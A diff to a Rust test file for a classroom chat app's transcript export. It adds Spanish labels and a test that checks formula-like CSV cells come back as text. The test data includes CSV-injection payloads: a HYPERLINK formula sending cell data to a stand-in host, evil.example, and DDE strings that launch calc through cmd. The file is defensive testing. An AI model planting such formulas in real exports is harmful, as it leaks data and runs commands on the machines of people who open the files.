@@ -2,11 +2,14 @@
 //! with Python's `csv` module (commas, quotes, newlines, non-ASCII), JSON
 //! with serde_json, Markdown with pulldown-cmark (markup in messages stays
 //! text). Times are in the zone asked for, and each format says which.
+//! Headers and labels come in the language asked for (Spanish read back
+//! through the same parsers; JSON stays English), and CSV cells a
+//! spreadsheet would run as formulas come back as text.
 
 mod common;
 mod store_support;
 
-use classroom_core::store::{ExportFormat, ExportOptions, Store};
+use classroom_core::store::{ExportFormat, ExportLanguage, ExportOptions, Store};
 use pulldown_cmark::{Event, Parser, Tag, TagEnd};
 use serde_json::{json, Value};
 use store_support::Peer;
@@ -54,8 +57,22 @@ async fn class_with_messages(dir: &std::path::Path) -> (Store, String) {
 }
 
 fn export(store: &Store, id: &str, format: ExportFormat) -> String {
-    let options = ExportOptions { format, time_zone: Some("America/Sao_Paulo".into()) };
+    export_in(store, id, format, ExportLanguage::English)
+}
+
+fn export_in(store: &Store, id: &str, format: ExportFormat, language: ExportLanguage) -> String {
+    let options = ExportOptions { format, time_zone: Some("America/Sao_Paulo".into()), language };
     store.export_to_string(id, &options).expect("export")
+}
+
+/// A name or text as a CSV cell holds it: with OWASP's leading `'` when it
+/// starts like a formula.
+fn csv_cell(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
 }
 
 /// What each message should read as: (name, role, text as stored: trimmed).
@@ -90,7 +107,7 @@ async fn csv_round_trips_through_two_parsers() {
         assert_eq!(&row[0], (n + 1).to_string());
         assert_eq!(&row[2], "America/Sao_Paulo");
         assert_eq!(&row[3], "-03:00");
-        assert_eq!((&row[4], &row[5], &row[7]), (name, role, text.as_str()));
+        assert_eq!((&row[4], &row[5], &row[7]), (name, role, csv_cell(&text).as_str()));
     }
 
     let path = dir.path().join("transcript.csv");
@@ -109,7 +126,7 @@ async fn csv_round_trips_through_two_parsers() {
     assert_eq!(python.len(), TEXTS.len());
     for (row, (name, role, text)) in python.iter().zip(expected()) {
         assert_eq!((row["name"].as_str(), row["role"].as_str()), (Some(name), Some(role)));
-        assert_eq!(row["text"].as_str(), Some(text.as_str()), "Python reads the same text");
+        assert_eq!(row["text"].as_str(), Some(csv_cell(&text).as_str()), "Python reads the same text");
     }
 }
 
@@ -217,6 +234,24 @@ async fn the_cli_exports_to_a_file() {
     .await;
     assert_eq!(code, 0, "{err}");
     assert_eq!(std::fs::read_to_string(&file).unwrap(), export(&store, &id, ExportFormat::Markdown));
+    let (code, out, err) = store_support::run(&[
+        "export",
+        &id,
+        "--format",
+        "csv",
+        "--language",
+        "es",
+        "--time-zone",
+        "America/Sao_Paulo",
+        "--data-dir",
+        data,
+    ])
+    .await;
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(out, export_in(&store, &id, ExportFormat::Csv, ExportLanguage::Spanish), "--language es");
+    let (code, _, err) = store_support::run(&["export", &id, "--language", "fr", "--data-dir", data]).await;
+    assert_eq!(code, 2, "an untranslated language is a usage error");
+    assert!(err.contains("unknown language"), "{err}");
     let (code, _, err) = store_support::run(&["export", "nope", "--data-dir", data]).await;
     assert_eq!(code, 1);
     assert!(err.contains("no class with session id nope"), "{err}");
@@ -224,4 +259,174 @@ async fn the_cli_exports_to_a_file() {
         store_support::run(&["export", &id, "--time-zone", "Mars/Base", "--data-dir", data]).await;
     assert_eq!(code, 1);
     assert!(err.contains("unknown time zone"), "{err}");
+}
+
+/// Spanish: the CSV headers and role words, and Markdown's labels, read
+/// back through the same parsers; the messages and the stated time zone
+/// are unchanged. JSON is byte for byte the English one (its keys and
+/// values are for programs).
+#[tokio::test]
+async fn spanish_exports_read_back_in_spanish() {
+    let dir = store_support::data_dir();
+    let (store, id) = class_with_messages(dir.path()).await;
+
+    let text = export_in(&store, &id, ExportFormat::Csv, ExportLanguage::Spanish);
+    assert!(text.starts_with('\u{feff}'), "a byte order mark for spreadsheets");
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    assert_eq!(
+        headers,
+        [
+            "n.º",
+            "fecha y hora",
+            "zona horaria",
+            "diferencia con UTC",
+            "nombre",
+            "rol",
+            "participante",
+            "texto"
+        ]
+    );
+    let rows: Vec<std::collections::HashMap<String, String>> =
+        reader.deserialize().collect::<Result<_, _>>().unwrap();
+    assert_eq!(rows.len(), TEXTS.len());
+    for (row, (name, role, text)) in rows.iter().zip(expected()) {
+        let rol = if role == "teacher" { "docente" } else { "estudiante" };
+        assert_eq!((row["nombre"].as_str(), row["rol"].as_str()), (name, rol));
+        assert_eq!(row["texto"], csv_cell(&text));
+        assert_eq!(row["zona horaria"], "America/Sao_Paulo", "the zone is stated");
+        assert_eq!(row["diferencia con UTC"], "-03:00");
+    }
+
+    let md = export_in(&store, &id, ExportFormat::Markdown, ExportLanguage::Spanish);
+    let mut items: Vec<String> = Vec::new();
+    let mut paragraphs: Vec<String> = Vec::new();
+    let mut current = String::new();
+    for event in Parser::new(&md) {
+        match event {
+            Event::Text(text) | Event::Code(text) => current.push_str(&text),
+            Event::HardBreak | Event::SoftBreak => current.push('\n'),
+            Event::End(TagEnd::Item) | Event::Start(Tag::List(_)) => {
+                items.push(std::mem::take(&mut current));
+            }
+            Event::End(TagEnd::Paragraph) => paragraphs.push(std::mem::take(&mut current)),
+            _ => {}
+        }
+    }
+    let item = |start: &str| items.iter().find(|i| i.starts_with(start)).cloned();
+    assert_eq!(item("Docente: ").as_deref(), Some("Docente: Mrs. Núñez"), "{items:#?}");
+    assert!(item("Inicio: ").is_some_and(|i| i.ends_with("(UTC-03:00)")), "{items:#?}");
+    assert!(item("Fin: ").is_some(), "{items:#?}");
+    assert!(item("Sesión: ").is_some_and(|i| i.contains(&id)), "{items:#?}");
+    assert_eq!(
+        item("Las horas").as_deref(),
+        Some("Las horas están en la zona horaria America/Sao_Paulo."),
+        "the zone is stated: {md}"
+    );
+    assert!(item("Participantes:").is_some(), "{items:#?}");
+    assert!(
+        item("Gone (").is_some_and(|i| i.starts_with("Gone (estudiante, p_")
+            && i.ends_with(" — retirado de la clase y bloqueado por el docente")),
+        "{items:#?}"
+    );
+    assert!(item("Mrs. Núñez (docente, p_").is_some(), "{items:#?}");
+    assert_eq!(item("Mensajes: ").as_deref(), Some(format!("Mensajes: {}", TEXTS.len()).as_str()));
+    let messages: Vec<&String> = paragraphs.iter().filter(|p| p.contains(" · ")).collect();
+    assert_eq!(messages.len(), TEXTS.len(), "{paragraphs:#?}");
+    for (p, (name, role, text)) in messages.iter().zip(expected()) {
+        let (_, rest) = p.split_once(" · ").unwrap();
+        let who = if role == "teacher" { format!("{name} (docente): ") } else { format!("{name}: ") };
+        let lines: Vec<&str> = text.lines().map(str::trim_end).filter(|l| !l.trim().is_empty()).collect();
+        assert_eq!(rest, format!("{who}{}", lines.join("\n")));
+    }
+    for english in ["Teacher", "Started", "Participants", "Times are", "(teacher)", "student"] {
+        assert!(!md.contains(english), "{english:?} left in the Spanish transcript:\n{md}");
+    }
+
+    assert_eq!(
+        export_in(&store, &id, ExportFormat::Json, ExportLanguage::Spanish),
+        export(&store, &id, ExportFormat::Json),
+        "JSON is for programs: the same in every language"
+    );
+}
+
+/// How a spreadsheet reads a CSV cell it imports: a leading `'` means text
+/// (and is not shown); `=`, `+`, `-` or `@` starts a formula (leading tabs
+/// and carriage returns are skipped first, as some do).
+#[derive(Debug, PartialEq, Eq)]
+enum SpreadsheetCell {
+    Text(String),
+    Formula(String),
+}
+
+fn spreadsheet_reads(cell: &str) -> SpreadsheetCell {
+    if let Some(text) = cell.strip_prefix('\'') {
+        return SpreadsheetCell::Text(text.to_owned());
+    }
+    if cell.trim_start_matches(['\t', '\r']).starts_with(['=', '+', '-', '@']) {
+        return SpreadsheetCell::Formula(cell.to_owned());
+    }
+    SpreadsheetCell::Text(cell.to_owned())
+}
+
+/// CSV injection (OWASP): names and messages that start like a formula
+/// come back from a spreadsheet-style reader as the text typed, never as a
+/// formula, in either language; the same texts stay untouched in JSON.
+#[tokio::test]
+async fn csv_cells_never_become_formulas() {
+    const FORMULAS: &[&str] = &[
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=1+1, then a comma",
+        "line one\n=line two is not a cell of its own",
+    ];
+    let dir = store_support::data_dir();
+    let store = Store::open(dir.path()).unwrap();
+    let mut config = common::config();
+    config.store = Some(store.clone());
+    config.limits.send_rate = 0;
+    let hub = common::start(config).await;
+    let url = hub.ws_url();
+    let (mut teacher, _) = Peer::join(&url, json!({"type": "teacher:join", "token": hub.host_token()})).await;
+    let (mut student, _) =
+        Peer::join(&url, json!({"type": "student:join", "name": "=cmd|' /C calc'!A0", "code": common::CODE}))
+            .await;
+    for (n, text) in FORMULAS.iter().enumerate() {
+        let peer = if n % 2 == 0 { &mut student } else { &mut teacher };
+        peer.send(json!({"type": "chat:message", "id": format!("c-{n}"), "text": text})).await;
+        peer.recv_kind("chat:ack").await;
+    }
+    let id = hub.session().id.clone();
+    drop((teacher, student));
+    hub.shutdown().await.unwrap();
+
+    for language in [ExportLanguage::English, ExportLanguage::Spanish] {
+        let text = export_in(&store, &id, ExportFormat::Csv, language);
+        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>().unwrap();
+        assert_eq!(rows.len(), FORMULAS.len(), "one row a message: no text started a row of its own");
+        for (n, (row, typed)) in rows.iter().zip(FORMULAS).enumerate() {
+            let name = if n % 2 == 0 { "=cmd|' /C calc'!A0" } else { "Mrs. Núñez" };
+            assert_eq!(spreadsheet_reads(&row[4]), SpreadsheetCell::Text(name.to_owned()), "{language:?}");
+            assert_eq!(
+                spreadsheet_reads(&row[7]),
+                SpreadsheetCell::Text((*typed).to_owned()),
+                "{language:?}"
+            );
+            for cell in row.iter() {
+                if cell != &row[3] {
+                    assert!(
+                        matches!(spreadsheet_reads(cell), SpreadsheetCell::Text(_)),
+                        "{cell:?} would run as a formula"
+                    );
+                }
+            }
+        }
+    }
+    let doc: Value = serde_json::from_str(&export(&store, &id, ExportFormat::Json)).expect("valid JSON");
+    let texts: Vec<&str> =
+        doc["messages"].as_array().unwrap().iter().filter_map(|m| m["text"].as_str()).collect();
+    assert_eq!(texts, FORMULAS, "JSON keeps the texts as typed");
 }
